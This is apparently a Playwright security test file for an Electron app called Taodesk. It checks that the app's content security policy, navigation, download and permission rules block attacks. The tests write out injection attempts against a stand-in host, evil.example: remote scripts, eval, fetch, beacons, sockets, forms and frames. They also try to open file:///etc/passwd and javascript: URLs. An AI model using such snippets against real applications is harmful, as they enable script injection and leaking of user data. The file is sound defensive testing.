import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { makeHome, type TestHome } from './appProcess';
import { expect, launchApp, type RunningApp, test as base } from './fixtures';

const HOME_PAGE = 'app://taodesk/index.html';

/** One app and page for the whole file: what is tried must leave nothing behind. */
const test = base.extend<object, { running: { home: TestHome; app: RunningApp } }>({
  running: [
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const home = makeHome();
      const app = await launchApp({ home });
      await use({ home, app });
      await app.close();
      home.remove();
    },
    { scope: 'worker' },
  ],
  home: async ({ running }, use) => use(running.home),
  app: async ({ running }, use) => use(running.app),
});

const windowCount = (app: RunningApp): Promise<number> =>
  app.electron.evaluate(({ webContents }) => webContents.getAllWebContents().length);

test.describe('E3 content security policy', () => {
  test('E3 comes as a header with every document', async ({ app }) => {
    const answers = await app.electron.evaluate(async ({ net }) => {
      const found = [];
      for (const name of ['index.html', 'nothing.html', '..%2fmain%2findex.cjs']) {
        const answer = await net.fetch(`app://taodesk/${name}`);
        found.push([answer.status, answer.headers.get('content-security-policy')]);
      }
      return found;
    });
    expect(answers.map(([status]) => status)).toEqual([200, 404, 404]);
    for (const [, policy] of answers) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("connect-src 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/unsafe|https?:|\*/);
    }
  });

  /** What an injected script would try, by the directive that must stop it. */
  const attempts: [string, string, () => unknown][] = [
    [
      'an inline script',
      'require-trusted-types-for',
      () => {
        const script = document.createElement('script');
        script.append('window.__ran = 1');
        document.head.append(script);
      },
    ],
    [
      'a script of another host',
      'require-trusted-types-for',
      () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://evil.example/x.js');
        document.head.append(script);
      },
    ],
    ['eval', 'require-trusted-types-for', () => (0, eval)('window.__ran = 1')],
    [
      'a handler in an attribute',
      'require-trusted-types-for',
      () => document.body.setAttribute('onclick', 'window.__ran = 1'),
    ],
    [
      'markup with a script',
      'require-trusted-types-for',
      () => (document.body.innerHTML = '<b>x</b>'),
    ],
    ['a remote picture', 'img-src', () => (new Image().src = 'https://evil.example/x.png')],
    ['fetch', 'connect-src', () => fetch('https://evil.example/')],
    [
      'a request',
      'connect-src',
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', 'https://evil.example/');
        request.send();
      },
    ],
    ['a socket', 'connect-src', () => new WebSocket('wss://evil.example/')],
    ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
    ['an event source', 'connect-src', () => new EventSource('https://evil.example/')],
    [
      'a frame',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
    ],
    [
      'an inline style',
      'style-src-elem',
      () => {
        const style = document.createElement('style');
        style.append('body { opacity: 0.5 }');
        document.head.append(style);
      },
    ],
    [
      'a form',
      'form-action',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'another base',
      'base-uri',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
    ],
    [
      'an object',
      'require-trusted-types-for',
      () => {
        const object = document.createElement('object');
        object.data = 'https://evil.example/x.swf';
        document.body.append(object);
      },
    ],
  ];

  for (const [what, directive, attempt] of attempts) {
    test(`E3 ${what} is blocked and reported as ${directive}`, async ({ page, app }) => {
      // Planted as the page's own task: what the debugger evaluates directly is exempt from the policy.
      const seen = await page.evaluate(async (code) => {
        const found: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) =>
          found.push(event.effectiveDirective),
        );
        // eslint-disable-next-line no-eval
        const run = (0, eval)(`(${code})`) as () => unknown;
        await new Promise<void>((resolve) =>
          setTimeout(() => {
            try {
              void Promise.resolve(run()).catch(() => found.push('rejected'));
            } catch {
              found.push('threw');
            }
            setTimeout(resolve, 700);
          }, 0),
        );
        return { found, ran: (window as unknown as { __ran?: number }).__ran };
      }, attempt.toString());
      expect(seen.found).toContain(directive);
      expect(seen.ran).toBeUndefined();
      expect(page.url()).toContain(HOME_PAGE);
      expect(await windowCount(app)).toBe(1);
    });
  }

  test('E3 a worker is blocked', async ({ page }) => {
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) =>
            resolve(event.effectiveDirective),
          );
          try {
            const worker = new Worker('https://evil.example/w.js');
            worker.addEventListener('error', () => resolve('error'));
          } catch (error) {
            resolve((error as Error).name);
          }
          setTimeout(() => resolve('ran'), 3_000);
        }),
    );
    expect(blocked).not.toBe('ran');
  });
});

test.describe('E5 navigation, windows, downloads, permissions', () => {
  for (const url of [
    ...['https://evil.example/', 'http://127.0.0.1:1/', 'file:///etc/passwd', 'data:text/html,x'],
    ...['javascript:void(document.title="ran")', 'blob:app://taodesk/x'],
    ...['app://other/index.html', 'chrome://gpu', 'view-source:app://taodesk/index.html'],
    ...['devtools://devtools/bundled/inspector.html', 'ftp://evil.example/', 'mailto:a@b.example'],
  ]) {
    test(`E5 ${url.slice(0, 40)} opens neither here nor in a window`, async ({ page, app }) => {
      const opened = await page.evaluate((target) => {
        const results: unknown[] = [];
        const attempt = (run: () => unknown): void => {
          try {
            results.push(run());
          } catch {
            results.push('threw');
          }
        };
        attempt(() => window.open(target) === null);
        attempt(() => window.open(target, '_blank', 'noopener,popup') === null);
        const link = document.createElement('a');
        link.href = target;
        document.body.append(link);
        attempt(() => link.click());
        link.target = '_blank';
        attempt(() => link.click());
        attempt(() => location.assign(target));
        attempt(() => {
          top?.location.replace(target);
        });
        return results.includes(false);
      }, url);
      await page.waitForTimeout(700);
      expect(opened).toBe(false);
      expect(page.url()).toContain(HOME_PAGE);
      expect(await page.evaluate(() => document.title)).toContain('Taodesk');
      expect(await windowCount(app)).toBe(1);
    });
  }

  test('E5 a refreshing meta tag does not lead away', async ({ page }) => {
    await page.evaluate(() => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0; url=https://evil.example/';
      document.head.append(meta);
    });
    await page.waitForTimeout(1_500);
    expect(page.url()).toContain(HOME_PAGE);
  });

  test('E5 a dropped html file is not opened', async ({ page, home, app }) => {
    const file = path.join(home.folder, 'dropped.html');
    writeFileSync(file, '<title>dropped</title>');
    const session = await page.context().newCDPSession(page);
    const data = { items: [], files: [file], dragOperationsMask: 1 };
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
      await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
    }
    await page.waitForTimeout(1_000);
    expect(await page.evaluate(() => document.title)).toContain('Taodesk');
    expect(page.url()).toContain(HOME_PAGE);
    expect(await windowCount(app)).toBe(1);
  });

  test('E5 a download link writes no file', async ({ page, home, app }) => {
    const target = path.join(home.folder, 'downloads');
    await app.electron.evaluate(({ app: electronApp, session }, folder) => {
      electronApp.setPath('downloads', folder);
      session.defaultSession.setDownloadPath(folder);
    }, target);
    await page.evaluate(() => {
      for (const href of [
        'app://taodesk/index.html',
        'data:text/plain,x',
        'https://evil.example/',
      ]) {
        const link = document.createElement('a');
        link.href = href;
        link.download = 'planted.txt';
        document.body.append(link);
        link.click();
      }
    });
    await page.waitForTimeout(1_000);
    expect(existsSync(target) ? readdirSync(target) : []).toEqual([]);
  });

  test('E5 every permission is denied', async ({ page }) => {
    const granted = await page.evaluate(async () => {
      const found: string[] = [];
      const names = [
        ...['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read'],
        ...['midi', 'background-sync', 'persistent-storage', 'screen-wake-lock', 'storage-access'],
      ];
      for (const name of names) {
        try {
          const { state } = await navigator.permissions.query({ name: name as PermissionName });
          if (state === 'granted') found.push(name);
        } catch {
          // This engine does not know the name, so there is nothing to grant.
        }
      }
      const tries: [string, () => Promise<unknown>][] = [
        ['camera', () => navigator.mediaDevices.getUserMedia({ video: true })],
        ['microphone', () => navigator.mediaDevices.getUserMedia({ audio: true })],
        ['screen', () => navigator.mediaDevices.getDisplayMedia()],
        ['clipboard', () => navigator.clipboard.readText()],
        [
          'position',
          () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
        ],
      ];
      for (const [name, run] of tries) {
        const late = new Promise((_ok, no) => setTimeout(() => no(new Error('late')), 2_000));
        await Promise.race([run(), late]).then(
          () => found.push(`got ${name}`),
          () => undefined,
        );
      }
      if ((await Notification.requestPermission()) === 'granted') found.push('notification');
      return found;
    });
    expect(granted).toEqual([]);
  });

  test('E5 I4 about:blank, which needs no navigation, gives the page nothing', async ({ page }) => {
    await page.evaluate(() => location.assign('about:blank'));
    await page.waitForTimeout(500);
    const codes = await page.evaluate(async () => {
      const { api } = window as unknown as {
        api?: Record<string, Record<string, (input: unknown) => unknown>>;
      };
      const answers = [
        api?.['settings']?.['about']?.(undefined),
        api?.['wallet']?.['lock']?.(undefined),
      ];
      const settled = (await Promise.all(answers)) as { error?: { code: string } }[];
      return settled.map((answer) => answer?.error?.code ?? typeof answer);
    });
    for (const code of codes) expect(['REFUSED', 'undefined']).toContain(code);
  });
});
